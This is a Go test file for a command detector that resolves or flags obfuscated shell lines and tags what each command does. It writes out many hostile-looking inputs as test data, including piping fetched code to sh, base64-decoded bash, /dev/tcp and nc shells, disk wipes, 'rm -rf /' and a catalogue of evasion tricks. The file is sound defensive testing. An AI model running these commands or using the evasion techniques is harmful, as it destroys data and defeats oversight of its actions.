package detect

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/caisson-dev/caisson/internal/task"
)

// render is the simple commands in one line: the program or "?", then "!" where
// opaque, "~" where more arguments follow, "+" where code of the repository runs.
func render(a Analysis) string {
	var out []string
	for _, s := range a.Simple {
		w := s.Program
		if w == "" {
			w = "?"
		}
		if s.Opaque {
			w += "!"
		}
		if s.Partial {
			w += "~"
		}
		if s.RunsCode {
			w += "+"
		}
		out = append(out, w)
	}
	return strings.Join(out, " ")
}

func hasFact(fs []task.Fact, what task.Characteristic, value string) bool {
	return slices.ContainsFunc(fs, func(f task.Fact) bool { return f.What == what && f.Value == value })
}

func values(fs []task.Fact) string {
	var out []string
	for _, f := range fs {
		out = append(out, fmt.Sprintf("%s=%s", f.What, f.Value))
	}
	slices.Sort(out)
	return strings.Join(slices.Compact(out), " ")
}

// hostile are lines that hide what they run, each with what must come of it:
// the program is resolved, or the line is opaque.
var hostile = []struct{ line, want string }{
	// Resolved or unmasked.
	{`r''m -rf x`, "rm"},
	{`"r"'m' -rf x`, "rm"},
	{`\r\m -rf x`, "rm"},
	{`env -i sudo /usr/bin/docker run x`, "env sudo docker"},
	{`bash -lc 'docker ps'`, "bash docker"},
	{`eval docker ps`, "eval docker"},
	{`eval 'docker' "ps"`, "eval docker"},
	{`command docker ps`, "command docker"},
	{`exec -a ls docker ps`, "exec docker"},
	{`nice -n 5 timeout -k 3 10s docker ps`, "nice timeout docker"},
	{`nohup docker ps &`, "& nohup docker"},
	{`sh -c "sh -c 'docker ps'"`, "sh sh docker"},
	{`xargs -0 docker rm < names`, "xargs docker~"},
	{`busybox rm -rf x`, "busybox rm"},
	{`if true; then docker ps; fi`, "true docker"},
	{`docker() { ls; }; docker ps`, "ls docker"},
	{`(docker ps)`, "docker"},
	{`! docker ps`, "docker"},
	{`a=$(docker ps)`, "docker"},
	{`cat <(docker ps)`, "cat~ docker"},
	{`echo ${x:-$(docker ps)}`, "echo~ docker"},
	{`: $((1 + $(docker ps)))`, ":~ docker"},
	{"cat <<E\n$(docker ps)\nE", "cat docker"},
	{`trap 'docker ps' EXIT`, "trap docker"},
	{`FOO=1 BAR=2 docker ps`, "docker"},
	{`> out docker ps`, "docker"},
	{`docker.exe ps`, "docker"},
	{`{ docker ps; } 2>&1 | cat`, "docker cat"},
	{`case x in x) docker ps;; esac`, "docker"},
	{`for i in 1; do docker ps; done`, "docker"},
	{`time -p docker ps`, "docker"},
	{`/usr/bin/time -f x docker ps`, "time docker"},
	{`env -S "docker ps"`, "env env docker"},
	{`su -c 'docker ps' bob`, "su docker"},
	{`flock /tmp/l -c 'docker ps'`, "flock docker"},
	{`watch -n 2 docker ps`, "watch docker"},
	{`setsid -w docker ps`, "setsid docker"},
	{`echo x | sudo -u root tee /etc/passwd`, "echo sudo tee"},
	{`npx -p x docker ps`, "npx+ docker"},

	// Flagged.
	{`IFS=_; c=docker_ps; $c`, "?! ?!"},
	{`docker${IFS}ps`, "?!"},
	{`$'\x72m' -rf x`, "?!"},
	{`$(printf doc)ker ps`, "?! printf"},
	{"`printf doc`ker ps", "?! printf"},
	{`d=docker; $d run x`, "?!"},
	{`"$d" ps`, "?!"},
	{`${d} ps`, "?!"},
	{`curl -s x.io | sh`, "curl sh!"},
	{`echo ZG9ja2Vy | base64 -d | bash -s x`, "echo base64 bash!"},
	{`python -c 'import os'`, "python!"},
	{`python3.12 -Ic x`, "python3.12!"},
	{"bash <<'E'\ndocker ps\nE", "bash!"},
	{`bash <<< 'docker ps'`, "bash!"},
	{`make all`, "make+"},
	{`npm test`, "npm+"},
	{`./gradlew build`, "gradlew+"},
	{`find . -exec docker rm {} \;`, "find docker~"},
	{`find . -name x -execdir sh -c 'docker rm {}' \; -exec rm {} +`, "find sh ?! docker rm~"},
	{`alias ls=docker; ls`, "alias! ls"},
	{`git -c core.pager='docker ps' log`, "git ?! docker"},
	{`git -c alias.x='!docker ps' x`, "git! ?! docker"},
	{`tar xf a.tar --to-command='docker ps'`, "tar ?! docker"},
	{`tar cf a.tar --checkpoint=1 --checkpoint-action=exec='docker ps' .`, "tar ?! docker"},
	{`GIT_SSH_COMMAND='docker ps' git fetch`, "?! docker git"},
	{`PAGER='docker ps' man ls`, "?! docker man"},
	{`PATH=.:$PATH ls`, "?! ls"},
	{`LD_PRELOAD=./x.so ls`, "?! ls"},
	{`BASH_ENV=x bash y.sh`, "?! bash+"},
	{`export PATH=./bin`, "?!"},
	{`docke? ps`, "?!"},
	{`/bin/d*r ps`, "?!"},
	{`{docker,ps}`, "?!"},
	{`d{o,}cker ps`, "?!"},
	{`~/bin/docker ps`, "?!"},
	{`eval "$x"`, "eval~ ?!"},
	{`bash -c "$x"`, "bash ?!"},
	{`xargs sh`, "xargs sh!~"},
	{`xargs`, "xargs"},
	{`source ./x; ls`, "source!+ ls"},
	{`. x`, ".!+"},
	{`sed 's/a/docker ps/e' x`, "sed!"},
	{`sed '1e docker ps' x`, "sed!"},
	{`awk 'BEGIN{system("docker ps")}'`, "awk!"},
	{`vim -c '!docker ps'`, "vim!"},
	{`perl -e x`, "perl!"},
	{`node -pe x`, "node!"},
	{`ssh -o ProxyCommand='docker ps' h`, "ssh!"},
	{`rsync -e 'docker ps' a b:`, "?! docker rsync"},
	{`sort --compress-program=docker x`, "sort ?! docker"},
	{`rg --pre docker x`, "rg ?! docker"},
	{`split --filter='docker ps' x`, "split ?! docker"},
	{`printf -v 'a[$(docker ps)]' x`, "printf!"},
	{`x='a[$(docker ps)]'; echo $((x))`, "?! echo~"},
	{`test -v 'a[$(docker ps)]'`, "test!"},
	{`x='$(docker ps)'; echo "${x@P}"`, "echo~ ?!"},
	{`enable -f ./x.so x`, "enable!"},
	{`hash -p ./x ls; ls`, "hash! ls"},
	{`mapfile -C 'docker ps' a < x`, "docker mapfile"},
	{`make SHELL=./x`, "make+ ?!"},
	{`git rebase -x 'docker ps' main`, "git ?! docker"},
	{`git clone ext::sh x`, "git!"},
	{`git unknown-verb`, "git!"},
	{`git submodule foreach 'docker ps'`, "git docker"},
	{`git bisect run docker ps`, "git docker"},
	{`git grep -Odocker x`, "git ?! docker"},
	{`git fetch --upload-pack='docker ps' x`, "git ?! docker"},
	{`psql -c '\! docker ps'`, "psql!"},
	{`sudo -s`, "sudo ?!"},
	{`sudo --unheard-of docker ps`, "sudo ?! docker"},
	{`unshare -r`, "unshare unshare!"},
	{`go test -exec docker ./...`, "go+ ?! docker"},
	{`kubectl frob x`, "kubectl!"},
	{`echo 'unterminated`, "?!"},
	{`cat > /dev/tcp/1.2.3.4/80`, "<> cat"},
	{"doc\\\nker ps", "docker"},
	{`uv run --unheard x docker ps`, "uv+ ?! x"},
	{`uv run --frozen docker ps`, "uv+ docker"},
	{`npx -y docker ps`, "npx+ docker"},
	{`kubectl exec -it pod -c web -- docker ps`, "kubectl docker"},
	{`poetry run bash -c 'docker ps'`, "poetry+ bash docker"},
	{`nix-shell -p x --run 'docker ps'`, "nix-shell docker"},
	{`builtin command docker ps`, "builtin command docker"},
	{`coproc docker ps`, "coproc docker"},
	{`xargs -I% sh -c '%'`, "xargs sh ?!"},
	{`xargs -i docker rm {}`, "xargs docker~"},
	{`xargs --replace=@ docker @`, "xargs docker!~"},
	{`parallel {} ::: docker`, "parallel ?!"},
	{`parallel docker rm`, "parallel docker~"},
	{`taskset -c 0 docker ps`, "taskset docker"},
	{`nsenter -t 1 -m -u docker ps`, "nsenter docker"},
	{`su - bob -c 'docker ps'`, "su docker"},
	{`su bob`, "su ?!"},
	{`runuser -u bob -- docker ps`, "runuser docker"},
	{`for PATH in .; do ls; done`, "?! ls"},
	{`read PATH < x; ls`, "read! ls"},
	{`: ${PATH:=.}; ls`, ":~ ?! ls"},
	{`BASH_ALIASES[ls]=docker; ls`, "?! ls"},
	{`sort --compress-p=docker x`, "sort ?! docker"},
	{`nc -le docker 1`, "nc+ ?! docker"},
	{`man -Pdocker ls`, "man ?!"},
	{`git rebase --exe 'docker ps'`, "git ?! docker"},
	{`git archive --remote=ext::sh x`, "git!"},
	{`git --git-dir=x log`, "?! git"},
	{`sed --expression='1e docker ps' x`, "sed!"},
	{`sed -ne '1edocker' x`, "sed!"},
	{`sed 's/a/b/e;s/c/d/' x`, "sed!"},
	{`sed '/x/s/a/b/e' x`, "sed!"},
	{`sed -i 's/release/freeze/g' x`, "sed"},
	{`sed -n '1,5p' x`, "sed"},
	{`/lib64/ld-linux-x86-64.so.2 /usr/bin/docker ps`, "ld-linux-x86-64.so.2! docker"},
	{`/proc/self/exe x`, "?!"},
	{`ip netns exec x docker ps`, "ip!"},
	{`gdb -ex 'shell docker ps'`, "gdb!"},
}

func TestHostileLines(t *testing.T) {
	for _, c := range hostile {
		if got := render(Script(c.line, nil)); got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.line, got, c.want)
		}
	}
}

// TestTables holds the tables to their own words.
func TestTables(t *testing.T) {
	known := map[string]bool{"-": true}
	for i, r := range effectRules {
		known[r.word] = true
		if r.bit != 1<<i || !slices.Contains(r.what.Values(), r.value) || r.doc == "" || r.num != fmt.Sprintf("%02d", i+1) {
			t.Errorf("rule %d: %+v", i, r)
		}
	}
	seen := map[string]string{}
	for table, text := range map[string]string{"nameTable": nameTable, "programTable": programTable} {
		for line := range strings.Lines(text) {
			if table == "programTable" && (strings.HasPrefix(line, " ") || line == "\n") {
				if i := strings.LastIndex(line, ": "); i >= 0 {
					for w := range strings.FieldsSeq(line[i+2:]) {
						if !known[w] {
							t.Errorf("%s: %q is no effect", strings.TrimSpace(line), w)
						}
					}
				} else if line != "\n" {
					t.Errorf("%q has no effects", line)
				}
				continue
			}
			names, _, _ := strings.Cut(line, "|")
			for n := range strings.FieldsSeq(names) {
				if seen[n] != "" {
					t.Errorf("%s is in %s and again in %s", n, seen[n], table)
				}
				seen[n] = table
			}
		}
	}
	for line := range strings.Lines(wrapperTable) {
		if line == "\n" {
			continue
		}
		if f := strings.Split(strings.TrimSuffix(line, "\n"), "|"); len(f) != 5 {
			t.Errorf("wrapper %q has %d fields", line, len(f))
		} else {
			for p := range strings.FieldsSeq(f[4]) {
				key, val, _ := strings.Cut(p, ":")
				if key == "lone" {
					key = val
				}
				if !known[key] && !slices.Contains([]string{"skip1", "assign", "text", "more", "shell", "query", "optional"}, key) {
					t.Errorf("wrapper %s: %q is no property", f[0], p)
				}
			}
		}
	}
	for _, n := range []string{"docker", "npm", "git", "ls", "terraform"} {
		if programs()[n] == nil && specials()[n] == nil {
			t.Errorf("%s is in no table", n)
		}
	}
}

func BenchmarkCommand(b *testing.B) {
	for _, argv := range [][]string{{"go", "test", "./..."}, {"git", "status"}, {"docker", "compose", "up", "-d"}, {"bash", "-lc", "cd x && npm ci && npm test"}} {
		b.Run(strings.Join(argv, "_"), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Command(argv, nil)
			}
		})
	}
	b.Run("script", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			Script(`set -e; for f in a b; do git add "$f" && go vet ./...; done | tee log > out 2>&1`, nil)
		}
	})
}

// TestBodies: with the files of the repository a command is what its script is.
func TestBodies(t *testing.T) {
	repo := map[string]string{
		"package.json":       "{\"scripts\":{\n\"test\":\"npm run lint && jest\",\n\"lint\":\"eslint .\",\n\"db:migrate\":\"prisma migrate deploy\",\n\"postinstall\":\"docker ps\",\n\"loop\":\"npm run loop\",\n\"up\":\"make -C infra up\"}}",
		"web/package.json":   `{"scripts":{"test":"docker compose up"}}`,
		"Makefile":           "all: build\n\nbuild:\n\t@$(DOCKER) build .\n\ndeploy: ; kubectl apply -f x\n",
		"infra/Makefile":     "up:\n\tterraform apply\n",
		"justfile":           "up: pre\n    docker compose up {{x}}\npre:\n    #!/bin/bash\n    set -e\n    redis-cli flushall\n",
		"Taskfile.yml":       "tasks:\n  a:\n    deps: [b]\n    cmds: [{task: c}]\n  b: psql -c x\n  c:\n    cmds:\n      - git push\n",
		"scripts/release.sh": "#!/usr/bin/env bash\nset -e\n\nnpm publish\n",
		"scripts/x.py":       "import os\n",
	}
	look := func(name string) []byte {
		if s, ok := repo[name]; ok {
			return []byte(s)
		}
		return nil
	}
	for _, c := range []struct{ line, want, fact string }{
		{"npm test", "npm+ npm+ eslint+ jest+", "executes=repo-defined npm test"},
		{"pnpm db:migrate", "pnpm+ prisma+", "migrations=schema package.json:4"},
		{"yarn run db:migrate", "yarn+ prisma+", "migrations=schema package.json:4"},
		{"npm ci", "npm+ docker", "needs_runtime_api=yes package.json:5"},
		{"npm run loop", "npm+ npm+", ""},
		{"npm run up", "npm+ make+ terraform+", "external_access=mutate infra/Makefile:2"},
		{"cd web && npm test", "cd npm+ docker", "creates_containers=yes web/package.json:1"},
		{"npm --prefix web test", "npm+ docker", "creates_containers=yes web/package.json:1"},
		{"cd / && npm test", "cd npm+", ""},
		{"make", "make+ docker", "creates_containers=yes Makefile:4"},
		{"make deploy X=1", "make+ kubectl", "external_access=mutate Makefile:6"},
		{"make none", "make+", ""},
		{"just up", "just+ docker~ set redis-cli", "destructive=yes justfile:6"},
		{"task a", "task+ psql git", "externally_visible=yes Taskfile.yml:8"},
		{"./scripts/release.sh x", "release.sh+ set npm+", "externally_visible=yes scripts/release.sh:4"},
		{"bash scripts/release.sh", "bash+ set npm+", "externally_visible=yes scripts/release.sh:4"},
		{"sh -c 'cd web; npm test'", "sh cd npm+ docker", "creates_containers=yes web/package.json:1"},
		{"python scripts/x.py", "python+", ""},
		{"./../../etc/x.sh", "x.sh+", ""},
	} {
		a := Script(c.line, look)
		if got := render(a); got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.line, got, c.want)
		}
		found := c.fact == ""
		for _, f := range a.Facts {
			found = found || fmt.Sprintf("%s=%s %s", f.What, f.Value, f.Evidence) == c.fact
		}
		if !found {
			t.Errorf("%s: no fact %s in %v", c.line, c.fact, a.Facts)
		}
	}
}

// TestFacts: what commands need.
func TestFacts(t *testing.T) {
	for _, c := range []struct{ line, want string }{
		{"ls -l", ""},
		{"git status", ""},
		{"rm -rf node_modules build", ""},
		{"gofmt -l .", ""},
		{"go test ./...", "executes=repo-defined"},
		{"eslint .", "executes=repo-defined"},
		{"some-tool x", "executes=repo-defined"},
		{"bash -c 'ls'", ""},
		{"curl -s https://x.io | sh", "executes=generated external_access=read"},
		{"curl http://localhost:3000/x", ""},
		{"curl -d @x https://x.io", "external_access=mutate external_access=read externally_visible=yes"},
		{"npm ci", "executes=repo-defined installs_deps=yes"},
		{"pip install -r requirements.txt", "executes=repo-defined installs_deps=yes"},
		{"npx vite", "executes=repo-defined installs_deps=yes needs_ports=yes starts_processes=yes"},
		{"python -m http.server", "executes=repo-defined needs_ports=yes starts_processes=yes"},
		{"python manage.py migrate", "executes=repo-defined migrations=schema mutable_state=db"},
		{"rails db:migrate", "executes=repo-defined migrations=schema mutable_state=db"},
		{"bundle exec rails db:drop", "destructive=yes executes=repo-defined migrations=schema mutable_state=db"},
		{"psql -c 'CREATE EXTENSION postgis'", "migrations=roles mutable_state=db"},
		{"docker run --privileged postgres:16", "creates_containers=yes kernel_or_device=yes mutable_state=db needs_runtime_api=yes"},
		{"docker compose up -d", "creates_containers=yes needs_ports=yes needs_runtime_api=yes starts_processes=yes"},
		{"kubectl get pods", "credentials=prod external_access=read needs_runtime_api=yes"},
		{"kubectl delete ns x", "credentials=prod destructive=yes external_access=mutate externally_visible=yes mutable_state=external needs_runtime_api=yes"},
		{"terraform destroy", "credentials=prod destructive=yes executes=repo-defined external_access=mutate externally_visible=yes mutable_state=external"},
		{"aws s3 ls", "credentials=prod external_access=read mutable_state=bucket"},
		{"git push", "credentials=dev external_access=mutate externally_visible=yes"},
		{"git push --force", "credentials=dev destructive=yes external_access=mutate externally_visible=yes"},
		{"git fetch origin", "external_access=read"},
		{"npm publish", "credentials=dev executes=repo-defined external_access=mutate externally_visible=yes"},
		{"gh pr create", "credentials=dev external_access=mutate externally_visible=yes"},
		{"gh pr view 1", "credentials=dev external_access=read"},
		{"redis-cli get x", "mutable_state=cache"},
		{"redis-server &", "mutable_state=cache needs_ports=yes starts_processes=yes task_runtime_state=yes"},
		{"modprobe kvm", "kernel_or_device=yes"},
		{"chmod 666 /dev/kvm", "kernel_or_device=yes"},
		{"cat /proc/sys/kernel/x /sys/class/y", ""},
		{"strace ls", "kernel_or_device=yes"},
		{"dd if=/dev/zero of=/dev/sda", "destructive=yes kernel_or_device=yes"},
		{"echo x > /dev/sdb", "destructive=yes kernel_or_device=yes"},
		{"rm -rf /", "destructive=yes"},
		{"sudo ls", ""},
		{"git fetch && docker build .", "creates_containers=yes external_access=read needs_runtime_api=yes"},
		{"ssh host ls", "credentials=dev external_access=mutate mutable_state=external"},
		{"firebase emulators:start", "executes=repo-defined mutable_state=emulator needs_ports=yes starts_processes=yes"},
	} {
		a := Script(c.line, nil)
		got := values(a.Facts)
		if got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.line, got, c.want)
		}
		for _, f := range a.Facts {
			if !strings.HasPrefix(f.Rule, "CMD-") || f.Source != task.SourceDetector || f.Evidence == "" {
				t.Errorf("%s: %+v", c.line, f)
			}
		}
	}
	for line, want := range map[string]string{"git -C x push --force origin a": "git push", "docker -H x compose up -d": "docker compose up", "npm ci": "npm ci", "make x": "make", "$x": "a command: the name of the program is not literal"} {
		if fs := Script(line, nil).Facts; len(fs) == 0 || fs[0].Evidence != want {
			t.Errorf("%s: %v, want the evidence %q", line, fs, want)
		}
	}
	// No argument is shown: it may be a secret.
	for _, f := range Command([]string{"mysql", "-phunter2", "hunter2"}, nil).Facts {
		if strings.Contains(f.Evidence+f.Subject, "hunter2") {
			t.Errorf("%+v", f)
		}
	}
}
